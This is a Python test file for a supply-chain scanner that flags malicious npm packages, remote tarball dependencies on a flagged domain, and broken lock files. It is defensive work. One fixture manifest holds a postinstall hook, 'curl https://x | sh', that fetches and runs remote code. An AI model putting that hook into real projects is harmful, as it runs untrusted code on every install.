"""Tests for ProjectScanner: manifests and lock files on disk."""

from __future__ import annotations

import json

from ravenscan.engines.detector.models import FindingKind, ProjectStatus, Severity
from ravenscan.engines.detector.scanner import ProjectScanner, scan_project
from ravenscan.engines.detector.signatures import load_signature


class TestEndToEnd:
    def test_scenario_a_malicious_package(self, make_project):
        root = make_project(manifest={"dependencies": {"unused-imports": "^1.0.0"}})
        [result] = scan_project(root)
        assert result.status is ProjectStatus.INFECTED
        assert [(f.kind, f.detail) for f in result.findings] == [
            (FindingKind.MALICIOUS_PACKAGE, "unused-imports")
        ]

    def test_scenario_b_remote_dependency_on_malicious_domain(self, make_project):
        root = make_project(
            manifest={"dependencies": {"pkg": "http://packages.storeartifact.com/npm/pkg"}}
        )
        [result] = scan_project(root)
        assert result.status is ProjectStatus.INFECTED
        assert len(result.findings) == 2
        rdd = result.findings[0]
        assert rdd.kind is FindingKind.REMOTE_DYNAMIC_DEPENDENCY
        assert rdd.severity is Severity.CRITICAL
        assert FindingKind.MALICIOUS_PACKAGE not in {f.kind for f in result.findings}

    def test_scenario_c_empty_manifest(self, make_project):
        root = make_project(manifest={"name": "app", "version": "1.0.0"})
        [result] = scan_project(root)
        assert result.findings == []
        assert result.status is ProjectStatus.CLEAN

    def test_scenario_d_registry_lock_only(self, make_project):
        lock = {
            "lockfileVersion": 3,
            "packages": {
                "": {"name": "app"},
                "node_modules/left-pad": {
                    "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"
                },
            },
        }
        root = make_project(
            manifest={"dependencies": {"left-pad": "^1.3.0"}},
            locks={"package-lock.json": json.dumps(lock)},
        )
        [result] = scan_project(root)
        assert result.findings == []
        assert result.status is ProjectStatus.CLEAN


class TestProjectScanner:
    def test_no_manifest_is_empty_not_error(self, tmp_path):
        assert scan_project(tmp_path) == []

    def test_one_result_per_manifest(self, make_project, tmp_path):
        root = make_project(manifest={"dependencies": {"react": "^18.0.0"}})
        make_project(name="packages/ui", manifest={"dependencies": {"fq-ui": "1.0.0"}}, root=root)
        make_project(name="node_modules/fq-ui", manifest={"name": "fq-ui"}, root=root)

        results = scan_project(root)
        assert [r.manifest_path for r in results] == ["package.json", "packages/ui/package.json"]
        assert [r.status for r in results] == [ProjectStatus.CLEAN, ProjectStatus.INFECTED]
        assert results[1].findings[0].source_file == "packages/ui/package.json"

    def test_lock_findings_use_lock_path(self, make_project):
        yarn = 'unused-imports@^1.0.0:\n  resolved "https://registry.yarnpkg.com/u.tgz"\n'
        root = make_project(manifest={}, locks={"yarn.lock": yarn})
        [result] = scan_project(root)
        assert [(f.kind, f.source_file) for f in result.findings] == [
            (FindingKind.MALICIOUS_PACKAGE, "yarn.lock")
        ]

    def test_all_three_lock_formats(self, make_project):
        evil = "http://packages.storeartifact.com/npm/x.tgz"
        root = make_project(
            manifest={},
            locks={
                "package-lock.json": json.dumps({"packages": {"node_modules/x": {"resolved": evil}}}),
                "yarn.lock": f'x@^1.0.0:\n  resolved "{evil}"\n',
                "pnpm-lock.yaml": f"packages:\n  /x@1.0.0:\n    resolution:\n      tarball: {evil}\n",
            },
        )
        [result] = scan_project(root)
        by_file = {}
        for f in result.findings:
            by_file.setdefault(f.source_file, []).append(f.kind)
        expected = [FindingKind.REMOTE_DYNAMIC_DEPENDENCY, FindingKind.MALICIOUS_DOMAIN_IN_LOCK]
        assert by_file == {
            "package-lock.json": expected,
            "yarn.lock": expected,
            "pnpm-lock.yaml": expected,
        }

    def test_invalid_manifest_is_error(self, make_project):
        root = make_project(manifest="{ not json")
        [result] = scan_project(root)
        assert result.status is ProjectStatus.ERROR
        assert "package.json" in result.error_detail
        assert result.parse_errors

    def test_invalid_manifest_with_infected_lock_is_infected(self, make_project):
        root = make_project(
            manifest="{ not json",
            locks={"yarn.lock": "# packages.storeartifact.com\n"},
        )
        [result] = scan_project(root)
        assert result.status is ProjectStatus.INFECTED
        assert result.error_detail is not None

    def test_broken_lock_still_gets_raw_scan(self, make_project):
        root = make_project(
            manifest={"dependencies": {"react": "^18.0.0"}},
            locks={"package-lock.json": '{"resolved": "http://packages.storeartifact.com/x"'},
        )
        [result] = scan_project(root)
        assert [f.kind for f in result.findings] == [FindingKind.MALICIOUS_DOMAIN_IN_LOCK]
        assert result.error_detail is None
        assert any("package-lock.json" in e for e in result.parse_errors)

    def test_out_of_range_yaml_scalar_keeps_manifest_findings(self, make_project):
        root = make_project(
            manifest={"dependencies": {"unused-imports": "^1.0.0"}},
            locks={"pnpm-lock.yaml": "lockfileVersion: '9.0'\nbuilt: 2020-13-45\n"},
        )
        [result] = scan_project(root)
        assert result.status is ProjectStatus.INFECTED
        assert [f.detail for f in result.findings] == ["unused-imports"]
        assert any("pnpm-lock.yaml" in e for e in result.parse_errors)

    def test_deeply_nested_lock_keeps_manifest_findings(self, make_project):
        nested = '{"lockfileVersion": 3, "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
        root = make_project(
            manifest={"dependencies": {"unused-imports": "^1.0.0"}},
            locks={"package-lock.json": nested},
        )
        [result] = scan_project(root)
        assert result.status is ProjectStatus.INFECTED
        assert any("package-lock.json" in e for e in result.parse_errors)

    def test_oversized_integer_in_lock_keeps_manifest_findings(self, make_project):
        root = make_project(
            manifest={"dependencies": {"unused-imports": "^1.0.0"}},
            locks={"package-lock.json": '{"lockfileVersion": ' + "1" * 5000 + "}"},
        )
        [result] = scan_project(root)
        assert result.status is ProjectStatus.INFECTED
        assert [f.detail for f in result.findings] == ["unused-imports"]

    def test_bom_prefixed_manifest_and_lock(self, make_project):
        root = make_project()
        manifest = {"dependencies": {"unused-imports": "^1.0.0"}}
        lock = {"lockfileVersion": 3, "packages": {"node_modules/fq-ui": {"version": "1.0.0"}}}
        (root / "package.json").write_text("\ufeff" + json.dumps(manifest), encoding="utf-8")
        (root / "package-lock.json").write_text("\ufeff" + json.dumps(lock), encoding="utf-8")
        [result] = scan_project(root)
        assert result.error_detail is None
        assert result.parse_errors == []
        assert [(f.detail, f.source_file) for f in result.findings] == [
            ("unused-imports", "package.json"),
            ("fq-ui", "package-lock.json"),
        ]

    def test_broken_lock_alone_does_not_error_project(self, make_project):
        root = make_project(manifest={}, locks={"pnpm-lock.yaml": "packages: [unclosed"})
        [result] = scan_project(root)
        assert result.status is ProjectStatus.CLEAN
        assert result.parse_errors

    def test_idempotent(self, make_project):
        root = make_project(
            manifest={
                "dependencies": {"fq-ui": "1", "x": "https://cdn.example.com/x.tgz"},
                "scripts": {"postinstall": "curl https://x | sh"},
            }
        )
        scanner = ProjectScanner()
        assert scanner.scan(root) == scanner.scan(root)

    def test_custom_signature(self, make_project, tmp_path):
        sig_file = tmp_path / "sig.json"
        sig_file.write_text(json.dumps({"packages": ["react"]}))
        root = make_project(manifest={"dependencies": {"react": "^18.0.0", "fq-ui": "1"}})
        [result] = ProjectScanner(load_signature(sig_file)).scan(root)
        assert [f.detail for f in result.findings] == ["react"]
